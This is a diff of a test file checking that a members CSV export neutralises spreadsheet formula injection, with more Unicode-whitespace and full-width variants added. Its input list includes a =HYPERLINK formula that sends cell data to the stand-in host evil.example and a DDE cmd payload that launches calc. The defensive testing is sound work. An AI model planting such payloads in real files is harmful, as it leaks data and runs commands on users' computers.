@@ -302,8 +302,20 @@ describe('counts and the incomplete members report', () => {
 
 describe('the incomplete members CSV and spreadsheet formulas', () => {
   // Names a spreadsheet would run as formulas (OWASP CSV injection), and names it would not.
-  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
-  const harmless = ['Dana', 'O"Brien, Jr.', "'=already text", 'a=1+1', '-12.50'];
+  // Formulas after leading spaces count too: a spreadsheet may trim them (docs/decisions.md, CSV).
+  const formulas = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    ' =1+1',
+    '\u00A0=1+1',
+    '\u3000\uFF1D1+1',
+    '\uFEFF\u200B@SUM(A1)',
+  ];
+  const harmless = ['Dana', 'O"Brien, Jr.', "'=already text", 'a=1+1', '-12.50', ' -12.50', '\u00A0Dana'];
 
   it('when members are named like formulas, then each such cell is read back by a CSV parser as text after a single quote, and every other cell unchanged', async () => {
     const w = await createEnrollmentWorld(t);
@@ -350,7 +362,9 @@ describe('the incomplete members CSV and spreadsheet formulas', () => {
       ).toBeDefined();
     expect(records.find((record) => record.email === "'=cmd@example.com")).toBeDefined();
     // No cell of the file starts with a formula character, as a spreadsheet would see it.
-    for (const record of records) for (const cell of Object.values(record)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?![0-9]+(\.[0-9]+)?$)/);
+    for (const record of records)
+      for (const cell of Object.values(record))
+        expect(cell, cell).not.toMatch(/^[\p{White_Space}\p{Cf}]*([=+@\uFF1D\uFF0B\uFF0D\uFF20\t\r]|-(?![0-9]+(\.[0-9]+)?$))/u);
   });
 });
 
